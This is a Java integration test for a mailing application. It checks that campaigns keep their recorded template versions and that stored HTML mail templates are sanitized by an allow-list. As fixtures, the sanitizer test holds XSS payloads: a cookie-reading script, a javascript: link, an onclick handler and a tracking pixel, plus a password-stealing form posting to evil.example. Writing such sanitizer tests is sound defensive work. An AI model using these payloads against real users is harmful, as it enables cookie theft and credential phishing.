package fr.publipostage.mailing;

import static org.assertj.core.api.Assertions.assertThat;

import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.GreenMailUtil;
import fr.publipostage.App;
import fr.publipostage.templates.TemplateVersion;
import fr.publipostage.testing.TestDatabase;
import java.util.List;
import javax.mail.internet.MimeMessage;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Issue 10: a campaign records its template versions when it starts and composes every mail with
 * those versions — an edit made while it runs changes neither what later recipients get nor the
 * record. And (leak 9) whatever a stored mail template says, the HTML sent goes through the
 * allow-list: no script, no remote image, no javascript: link, no form.
 */
class MailTemplateVersionsIT {
    private GreenMail greenMail;
    private TestDatabase.Fresh db;
    private App app;
    private long structureId;

    @BeforeEach
    void setUp() throws Exception {
        greenMail = MailFixture.greenMail();
        db = TestDatabase.fresh();
        app = db.app(MailFixture.settings(greenMail.getSmtp().getPort()));
        structureId = MailFixture.school(app, db, 6);
    }

    @AfterEach
    void tearDown() {
        app.mailWorker().close();
        greenMail.stop();
        db.close();
    }

    private void store(String file, String text) {
        // Straight into the versions table, as an older release (or another instance) could have saved it.
        app.structureTemplates().append(new TemplateVersion(structureId, file, 0, text, "t", null, null,
                TemplateVersion.SAVE, null), null);
    }

    @Test
    void mailsAreComposedWithTheVersionsRecordedAtStart() throws Exception {
        store("mail-activation.subject.vm", "Version one: $structure.name");
        store("mail-reminder.subject.vm", "Reminder one");
        Campaign c = MailFixture.start(app, MailFixture.teachers(app, structureId));
        String recorded = app.campaigns().find(c.id()).templateVersions();
        // Edited while the campaign runs (nothing was sent yet).
        store("mail-activation.subject.vm", "Version two: $structure.name");
        store("mail-reminder.subject.vm", "Reminder two");
        MailContentIT.drain(app, c.id());
        MimeMessage[] received = greenMail.getReceivedMessages();
        assertThat(received).hasSize(6);
        for (MimeMessage m : received) {
            assertThat(m.getSubject()).isIn("Version one: " + MailFixture.SCHOOL, "Reminder one");
        }
        assertThat(app.campaigns().find(c.id()).templateVersions()).isEqualTo(recorded);
        // A campaign started now uses the new versions.
        Campaign later = MailFixture.start(app, MailFixture.teachers(app, structureId));
        MailContentIT.drain(app, later.id());
        MimeMessage[] all = greenMail.getReceivedMessages();
        assertThat(all).hasSize(12);
        int ofLater = 0;
        // GreenMail lists messages mailbox by mailbox: the later campaign's are told by their Message-ID.
        for (MimeMessage m : all) {
            if (!m.getMessageID().startsWith("<" + later.token() + ".")) continue;
            ofLater++;
            assertThat(m.getSubject()).isIn("Version two: " + MailFixture.SCHOOL, "Reminder two");
        }
        assertThat(ofLater).isEqualTo(6);
    }

    @Test
    void theHtmlSentGoesThroughTheAllowList() throws Exception {
        String png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
        store("mail-activation.html.vm", """
                <html><body>
                <p>Bonjour $account.firstName, code <strong>$account.activationCode</strong>.</p>
                <script>alert(document.cookie)</script>
                <img src="https://tracker.example/pixel.gif?u=$account.login" alt="t"/>
                <img src="%s" alt="ok"/>
                <a href="javascript:alert(1)">piège</a>
                <a href="$ent.activationUrl">Activer</a>
                <form action="https://evil.example/steal"><input name="password"/></form>
                <p onclick="alert(2)" style="color: red">fin</p>
                </body></html>
                """.formatted(png));
        Campaign c = MailFixture.start(app, MailFixture.teachers(app, structureId));
        MailContentIT.drain(app, c.id());
        List<MimeMessage> toFirst = MailFixture.byRecipient(greenMail).get("t1@example.org");
        assertThat(toFirst).hasSize(1);
        String body = GreenMailUtil.getBody(toFirst.get(0));
        String html = htmlPart(toFirst.get(0));
        assertThat(html).contains("Bonjour", "CODE1001", "Activer", "fin", "data:image/png;base64,")
                .doesNotContainIgnoringCase("<script").doesNotContain("alert(")
                .doesNotContain("tracker.example").doesNotContainIgnoringCase("javascript:")
                .doesNotContainIgnoringCase("<form").doesNotContainIgnoringCase("<input")
                .doesNotContainIgnoringCase("onclick");
        assertThat(body).isNotEmpty();
    }

    private static String htmlPart(MimeMessage m) throws Exception {
        Object content = m.getContent();
        if (content instanceof javax.mail.Multipart mp) return htmlOf(mp);
        return String.valueOf(content);
    }

    private static String htmlOf(javax.mail.Multipart mp) throws Exception {
        for (int i = 0; i < mp.getCount(); i++) {
            javax.mail.BodyPart part = mp.getBodyPart(i);
            if (part.getContent() instanceof javax.mail.Multipart inner) {
                String found = htmlOf(inner);
                if (found != null) return found;
            } else if (part.isMimeType("text/html")) {
                return String.valueOf(part.getContent());
            }
        }
        return null;
    }
}
